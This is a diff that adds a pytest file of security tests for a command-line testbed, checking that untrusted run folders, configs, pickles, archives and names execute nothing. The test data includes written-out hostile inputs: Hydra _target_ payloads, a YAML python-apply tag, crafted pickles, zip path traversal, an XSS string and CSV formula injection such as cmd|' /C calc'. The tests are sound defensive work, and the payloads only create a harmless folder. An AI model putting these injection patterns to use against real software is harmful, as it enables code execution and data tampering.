@@ -1,0 +1,442 @@
+"""Files from elsewhere run nothing, write nothing outside the target, and put nothing into a page.
+
+Every test gives the command line a malicious input: a run folder, a folder of options, a profile, a
+pickle, an archive, or a name. The payload of most makes a folder, `harm`, which must not exist
+afterwards; `outside` is a folder that nothing may change.
+"""
+
+import csv
+import gzip
+import json
+import os
+import pickle
+import shutil
+import subprocess
+import zipfile
+from pathlib import Path
+
+import pytest
+import yaml
+from tiny_run import tiny_run
+
+from testbed.cells import guarded, unguarded
+from testbed.core.errors import InputError
+from testbed.cost.model import ALWAYS, LISTS, PREFIX
+from testbed.experiments.compare.finished_run import read_run, terms
+from testbed.experiments.runs.choice_names import CONF
+from testbed.experiments.runs.csv_tables import csv_text, read_csv_table
+from testbed.experiments.runs.run_folder import read_config
+from testbed.experiments.runs.whole_files import write_cells
+from testbed.trusted import class_names, is_own_part
+
+SCRIPT = "</script><script>window.harmed = 1</script><img src=x onerror='window.harmed = 1'>\""
+FORMULA = '=HYPERLINK("http://example.org/?"&A1;"more")'
+FLAG = "--trust-plug-ins"
+SOURCE_TREE = Path(__file__).parents[2]
+MODEL = {
+    "_target_": "testbed.core.specs.ModelSpec",
+    "name": "foreign",
+    "num_layers": 2,
+    "hidden_size": 64,
+    "num_heads": 2,
+    "num_kv_heads": 2,
+    "head_size": 32,
+    "ffn_size": 128,
+    "ffn_matrices": 2,
+    "vocab_size": 1000,
+    "max_len": 64,
+}
+
+
+@pytest.fixture(scope="module")
+def finished(tmp_path_factory):
+    """The folder of a run that is like any other; not to be changed."""
+    return tiny_run(tmp_path_factory.mktemp("runs") / "run", "outputs=full")
+
+
+@pytest.fixture
+def harm(tmp_path):
+    """The path of the folder that payloads make. At the end it must not exist, and what is outside
+    must be as it was.
+    """
+    path = tmp_path / "harm"
+    canary = tmp_path / "outside" / "canary.html"
+    canary.parent.mkdir()
+    canary.write_text("unchanged")
+    yield path
+    assert not path.exists(), "a payload ran"
+    assert canary.read_text() == "unchanged"
+    assert os.listdir(canary.parent) == [canary.name]
+
+
+def foreign_run(finished, folder, **changes):
+    """A copy of a run whose config has other values at these keys, with `__` between groups."""
+    shutil.copytree(finished, folder)
+    values = yaml.safe_load((folder / "config.yaml").read_text())
+    for key, value in changes.items():
+        *above, last = key.split("__")
+        group = values
+        for name in above:
+            group = group[name]
+        group[last] = value
+    (folder / "config.yaml").write_text(yaml.safe_dump(values, sort_keys=False))
+    return folder
+
+
+def making(path):
+    """A part whose construction makes a folder."""
+    return {"_target_": "os.mkdir", "path": str(path)}
+
+
+# Run folders
+
+
+@pytest.mark.parametrize("command", ["memory", "timeline"])
+def test_a_nested_class_of_a_run_folder_is_not_called(testbed, finished, harm, tmp_path, command):
+    payload = {"_target_": "subprocess.Popen", "args": ["mkdir", str(harm)]}
+    foreign_run(finished, tmp_path / "run", cost__efficiencies=payload)
+    error = testbed.refused("show", command, "run")
+    assert "subprocess.Popen" in error
+    assert "run/config.yaml" in error
+    assert FLAG in error
+
+
+def test_a_report_and_a_comparison_call_no_class_of_a_run_folder(testbed, finished, harm, tmp_path):
+    foreign_run(finished, tmp_path / "run", cost__efficiencies=making(harm))
+    shutil.copytree(finished, tmp_path / "mine")
+    testbed.done("report", "run")
+    testbed.done("compare", "mine", "run", "--html", "page.html")
+
+
+def test_cost_terms_call_no_class_of_a_run_folder(finished, harm, tmp_path):
+    folder = foreign_run(finished, tmp_path / "run", cost__efficiencies=making(harm))
+    with pytest.raises(InputError, match=r"os\.mkdir.*--trust-plug-ins"):
+        terms(read_run("run", folder), measured_on_a_gpu(finished, tmp_path / "gpu"))
+
+
+def measured_on_a_gpu(finished, folder):
+    """A run like one on a GPU: its iterations have the columns that only an engine writes."""
+    shutil.copytree(finished, folder)
+    with (folder / "iterations.csv").open() as lines:
+        rows = list(csv.DictReader(lines))
+    names = dict.fromkeys([*rows[0], *ALWAYS, "gpu_s"])
+    empty = dict.fromkeys((PREFIX + name for name in LISTS), "[]")
+    columns = {name: [row.get(name, empty.get(name, 0)) for row in rows] for name in names}
+    write_cells(folder / "iterations.csv", columns)
+    return read_run("gpu", folder)
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "testbed.experiments.runs.run_folder.os.mkdir",  # an import of one of our modules
+        "testbed.core.errors.InputError",  # ours, but no part of a run
+        "testbed.trusted.import_module",
+        "testbed.memory.nothing.Policy",
+        "posix.mkdir",
+        "builtins.eval",
+        "evil.Policy",
+    ],
+)
+def test_a_run_folder_may_name_only_parts_of_this_project(finished, harm, tmp_path, name):
+    payload = {"_target_": name, "path": str(harm)}
+    folder = foreign_run(finished, tmp_path / "run", policy=payload)
+    with pytest.raises(InputError, match=f"policy._target_={name}"):
+        read_config(folder)
+
+
+def test_a_plug_in_of_a_run_folder_is_loaded_only_with_trust(testbed, finished, harm, tmp_path):
+    (tmp_path / "beside.py").write_text(
+        f"import os\nfrom example_policy import Slabs\nos.mkdir({str(harm)!r})\n"
+    )
+    policy = {"_target_": "beside.Slabs", "slab_size": 4}
+    foreign_run(finished, tmp_path / "run", policy=policy)
+    assert "beside.Slabs" in testbed.refused("show", "memory", "run")
+    assert not harm.exists()
+    testbed.done("show", "memory", "run", FLAG)
+    harm.rmdir()  # it was made, as the user wanted
+
+
+def test_a_tag_of_yaml_calls_nothing(testbed, finished, harm, tmp_path):
+    for name in ("mine", "run"):
+        shutil.copytree(finished, tmp_path / name)
+    text = f"seed: !!python/object/apply:os.mkdir ['{harm}']\n"
+    (tmp_path / "run" / "config.yaml").write_text(text)
+    for command in (["show", "memory"], ["show", "timeline"], ["report"], ["compare", "mine"]):
+        assert "cannot be read" in testbed.refused(*command, "run")
+
+
+def test_links_in_a_run_folder_lead_nowhere(testbed, finished, harm, tmp_path):
+    shutil.copytree(finished, tmp_path / "run")
+    for name in ("memory_map.html", "timeline.json", "report.html"):
+        (tmp_path / "run" / name).symlink_to(tmp_path / "outside" / "canary.html")
+    testbed.done("show", "memory", "run")
+    testbed.done("show", "timeline", "run")
+    testbed.done("report", "run")
+
+
+def test_every_part_that_ships_may_be_named_in_a_run_folder():
+    chosen = [path for path in CONF.rglob("*.yaml") if path.parent.name != "figure"]
+    kept = list((SOURCE_TREE / "kernels").rglob("config.yaml"))
+    assert len(chosen) > 50
+    for path in (*chosen, *kept):
+        for key, name in class_names(yaml.safe_load(path.read_text(encoding="utf-8"))):
+            assert name == "???" or is_own_part(name), f"{path}: {key}"
+
+
+# What lies beside a run folder
+
+
+def in_a_process(command, folder, *arguments):
+    """Call the command as the installed script does, which does not look for modules in the working
+    folder first.
+    """
+    environment = {key: value for key, value in os.environ.items() if key != "PYTHONSAFEPATH"}
+    script = [command[0], "-P", *command[1:], *arguments]
+    return subprocess.run(
+        script,
+        cwd=folder,
+        env={**environment, "PYTHONPATH": str(SOURCE_TREE)},
+        capture_output=True,
+        text=True,
+        check=False,
+    )
+
+
+@pytest.mark.parametrize("module", ["numexpr", "bottleneck", "cupy", "hydra_plugins/foreign"])
+@pytest.mark.parametrize(
+    "arguments", [("report", "run"), ("run", "arrivals.duration_s=1", "outputs=summary")]
+)
+def test_modules_in_the_working_folder_are_not_imported(
+    command, finished, harm, tmp_path, module, arguments
+):
+    folder = tmp_path / "foreign"
+    shutil.copytree(finished, folder / "run")
+    path = folder / f"{module}.py"
+    path.parent.mkdir(exist_ok=True)
+    path.write_text(f"import os\nos.mkdir({str(harm)!r})\n")
+    done = in_a_process(command, folder, *arguments)
+    assert done.returncode == 0, done.stderr
+
+
+def test_entry_points_in_the_working_folder_are_not_loaded(command, harm, tmp_path):
+    folder = tmp_path / "foreign"
+    about = folder / "foreign-1.dist-info"
+    about.mkdir(parents=True)
+    (about / "METADATA").write_text("Metadata-Version: 2.1\nName: foreign\nVersion: 1\n")
+    (about / "entry_points.txt").write_text("[testbed.policy]\nevil = evil:Policy\n")
+    (folder / "evil.py").write_text(f"import os\nos.mkdir({str(harm)!r})\n")
+    done = in_a_process(command, folder, "list", "policy")
+    assert done.returncode == 0, done.stderr
+    assert "evil" not in done.stdout
+
+
+# Folders of options
+
+
+def options_with(folder, place, text):
+    """A folder of options with a sound model, and one more file."""
+    for name, content in (("model/foreign.yaml", yaml.safe_dump(MODEL)), (place, text)):
+        path = folder / name
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(content)
+    return f"--config-dir={folder}"
+
+
+def test_a_model_that_replaces_a_part_calls_nothing(testbed, harm, tmp_path):
+    """Hydra lets a file place values anywhere, here into the costs."""
+    part = yaml.safe_dump({"cost": making(harm)})
+    text = f"# @package _global_\nmodel: {json.dumps(MODEL)}\n{part}"
+    folder = options_with(tmp_path / "options", "model/evil.yaml", text)
+    error = testbed.refused("run", folder, "model=evil", "server=h200", "cost=custom")
+    assert "os.mkdir" in error
+    assert FLAG in error
+
+
+def test_a_class_hidden_in_an_interpolation_is_not_called(testbed, harm, tmp_path):
+    hidden = "${oc.decode:'{_target_: os.mkdir, path: " + str(harm) + "}'}"
+    text = yaml.safe_dump({"defaults": ["analytic", "_self_"], "efficiencies": hidden})
+    folder = options_with(tmp_path / "options", "cost/evil.yaml", text)
+    assert "os.mkdir" in testbed.refused("run", folder, "cost=evil", "outputs=summary")
+
+
+@pytest.mark.parametrize("several", [(), ("-m", "seed=0,1")], ids=["one run", "a sweep"])
+@pytest.mark.parametrize(
+    ("place", "header", "body"),
+    [
+        ("model/evil.yaml", "# @package _global_", "hydra:\n  callbacks:\n    evil: "),
+        ("model/evil.yaml", "# @package hydra.callbacks", "evil: "),
+        ("model/evil.yaml", "# @package _global_", "defaults: [/model@hydra.callbacks.x: foreign]"),
+        ("model/evil.yaml", "", "defaults: [../../outside/evil]"),
+        ("hydra/callbacks/evil.yaml", "", "evil: "),
+    ],
+    ids=["global", "package", "default", "elsewhere", "group"],
+)
+def test_a_file_of_options_cannot_change_hydra(
+    testbed, harm, tmp_path, place, header, body, several
+):
+    payload = json.dumps(making(harm)) if body.endswith(": ") else ""
+    folder = options_with(tmp_path / "options", place, f"{header}\n{body}{payload}\n")
+    words = ("outputs=summary", "server=h200", "arrivals.duration_s=1", "model=foreign")
+    assert "evil" in testbed.refused("run", *several, folder, *words)
+
+
+def test_a_plug_in_of_a_folder_of_options_needs_trust_or_its_name(testbed, tmp_path):
+    text = "defaults: [custom]\n_target_: example_policy.Slabs\n"
+    folder = options_with(tmp_path / "options", "policy/mine.yaml", text)
+    words = ("run", folder, "outputs=summary", "arrivals.duration_s=1")
+    assert "example_policy.Slabs" in testbed.refused(*words, "policy=mine")
+    testbed.done(*words, "policy=mine", FLAG)
+    testbed.done(*words, "policy=example_policy:Slabs")
+
+
+@pytest.mark.parametrize("launcher", ["basic", "joblib"])
+def test_a_sweep_over_options_calls_no_class_of_theirs(testbed, harm, tmp_path, launcher):
+    text = yaml.safe_dump({"defaults": ["analytic"], "efficiencies": making(harm)})
+    folder = options_with(tmp_path / "options", "cost/evil.yaml", text)
+    words = ("-m", "cost=analytic,evil", f"hydra/launcher={launcher}", "arrivals.duration_s=1")
+    code, _, error = testbed("run", folder, *words, "outputs=summary")
+    assert code == 2
+    assert "os.mkdir" in error
+
+
+# Profiles, pickles and archives
+
+
+def test_a_profile_calls_no_class(testbed, harm, tmp_path):
+    shipped = SOURCE_TREE / "testbed" / "cost" / "profiles" / "h200-opt-13b-tp1.json"
+    profile = json.loads(shipped.read_text())
+    for key in ("model", "gpu"):
+        profile[key] = {**(profile.get(key) or {}), **making(harm)}
+    (tmp_path / "evil.json").write_text(json.dumps(profile))
+    log = tmp_path / "log.csv"
+    log.write_text(
+        "input_tokens,output_tokens,arrival_s,first_token_s,finish_s\n4,4,0,1,2\n5,5,1,2,3\n"
+    )
+    testbed.refused("validate", str(log), "cost=profile", "cost.path=evil.json")
+    testbed.refused("run", "cost=profile", "cost.path=evil.json")
+
+
+class Reduced:
+    """A pickle of it calls a function with a path when it is read."""
+
+    def __init__(self, function, path):
+        self.call = function, (str(path),)
+
+    def __reduce__(self):
+        return self.call
+
+
+def pickles(harm):
+    """Pickles that call something, in every way that the format has."""
+    made = f"(S'{harm}'\n"
+    return {
+        "reduce": pickle.dumps([Reduced(os.mkdir, harm)]),
+        "first protocol": pickle.dumps([Reduced(os.mkdir, harm)], protocol=0),
+        "instance": f"{made}ios\nmkdir\n.".encode(),
+        "object": b"(cos\nmkdir\nS'" + str(harm).encode() + b"'\no.",
+        "eval": pickle.dumps([Reduced(eval, f"__import__('os').mkdir({str(harm)!r})")]),
+        "extension": b"\x80\x02\x82\x01.",
+        "persistent": b"\x80\x02X\x01\x00\x00\x00aQ.",
+        "state": b"\x80\x02]}b.",
+        "cut": pickle.dumps([(1, 2)])[:-3],
+        "memo": b"\x80\x02]r\xff\xff\xff\x7f.",
+    }
+
+
+@pytest.mark.parametrize("kind", pickles(Path("harm")))
+def test_a_pickle_of_lengths_is_read_without_calling_anything(testbed, harm, tmp_path, kind):
+    (tmp_path / "evil.pkl").write_bytes(pickles(harm)[kind])
+    error = testbed.refused("import", "lengths", "evil.pkl", "out.csv")
+    assert "evil.pkl" in error
+    assert not (tmp_path / "out.csv").exists()
+
+
+def test_an_archive_is_never_unpacked(testbed, finished, harm, tmp_path):
+    """A zip file in place of a table, with members outside the folder."""
+    shutil.copytree(finished, tmp_path / "run")
+    shutil.copytree(finished, tmp_path / "mine")
+    archive = tmp_path / "evil.zip"
+    with zipfile.ZipFile(archive, "w") as file:
+        file.writestr("../harm/a", "harm")
+        file.writestr(f"{harm}/a", "harm")
+    packed = {"requests.csv.gz": gzip.compress(archive.read_bytes())}
+    packed["iterations.csv.gz"] = archive.read_bytes()
+    for name, content in packed.items():
+        (tmp_path / "run" / name).write_bytes(content)
+        (tmp_path / "run" / name.removesuffix(".gz")).unlink()
+    testbed.refused("compare", "run", "mine")
+    testbed.refused("report", "run")
+    testbed.refused("run", "trace=csv", "trace.path=evil.zip")
+    testbed.refused("import", "lengths", "evil.zip", "out.csv")
+
+
+# Names
+
+
+def test_a_model_is_written_only_below_the_folder_of_models(testbed, harm, tmp_path):
+    folder = tmp_path / "here"
+    folder.mkdir()
+    os.chdir(folder)
+    config = {key: value for key, value in MODEL.items() if key != "_target_"}
+    for name in ("../../outside/evil", str(tmp_path / "outside" / "evil"), ".."):
+        (folder / "config.json").write_text(json.dumps({**config, "name": name}))
+        assert "no name of a file" in testbed.refused("import", "model", "config.json")
+    assert os.listdir(folder) == ["config.json"]
+
+
+def test_names_are_no_markup_in_any_page(testbed, browser, harm, tmp_path):
+    options = ("policy=tiered", "+tier@server.tiers.below=nvme", "outputs=full")
+    plain = tiny_run(tmp_path / "plain", *options)
+    tiers = yaml.safe_load((plain / "config.yaml").read_text())["server"]["tiers"]
+    changes = {"model__name": SCRIPT, "server__tiers": {SCRIPT: tiers["below"]}}
+    changes["server__kv_memory_gib"] = {}
+    folder = foreign_run(plain, tmp_path / SCRIPT.replace("/", ":"), **changes)
+    summary = json.loads((folder / "summary.json").read_text())
+    said = {key: SCRIPT for key, value in summary["run"].items() if isinstance(value, str)}
+    said = {**summary["run"], **said}
+    summary |= {"run": said, "cost_profile": {"source": SCRIPT, "device": SCRIPT}}
+    (folder / "summary.json").write_text(json.dumps(summary))
+    testbed.done("show", "memory", str(folder), "--out", "map")
+    testbed.done("report", str(folder), "--out", "report.html")
+    testbed.done(
+        "compare", f"{SCRIPT.replace('=', ' ')}={folder}", str(plain), "--html", "compare.html"
+    )
+    for page in ("map/memory_map.html", "report.html", "compare.html"):
+        browser.open((tmp_path / page).as_uri())
+        assert browser.value("typeof window.harmed") == "undefined", page
+        assert browser.value("document.querySelectorAll('img').length") == 0, page
+
+
+@pytest.mark.parametrize(
+    "text", [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "'=1", "''@", "-"]
+)
+def test_text_in_a_table_is_no_formula_and_is_read_back(tmp_path, text):
+    written = str(guarded(text))
+    assert not written.startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert unguarded(written) == text
+    path = tmp_path / "table.csv"
+    write_cells(path, {text: [text, "b"], "number": [-1, 2.5]})
+    assert path.read_bytes().startswith((b"'", b"\"'"))
+    table = read_csv_table(path)
+    assert list(table.columns) == [text, "number"]
+    assert list(table[text]) == [text, "b"]
+    assert csv_text(table).splitlines()[-1].replace('"', "") == "b,2.5"
+
+
+@pytest.mark.parametrize("value", [-1, -1.5e-3, "-1", "+3.2%", "-1,234.5", "a=b", "", None, "it's"])
+def test_numbers_and_plain_text_in_a_table_stay_as_they_are(value):
+    assert guarded(value) is value
+    assert unguarded(value) is value
+
+
+def test_a_comparison_as_a_table_has_no_formula(testbed, finished, tmp_path):
+    for name in ("one", "two"):
+        shutil.copytree(finished, tmp_path / name)
+    os.rename(tmp_path / "one", tmp_path / "@SUM(1)")
+    testbed.done("compare", "@SUM(1)", "two", "--csv", "out.csv")
+    with (tmp_path / "out.csv").open(newline="") as file:
+        cells = {cell for row in csv.reader(file) for cell in row}
+    assert "'@SUM(1)" in cells
+    assert not any(cell.startswith(("=", "@")) for cell in cells)
+    assert "@SUM(1)" in set(read_csv_table(tmp_path / "out.csv")["run"])
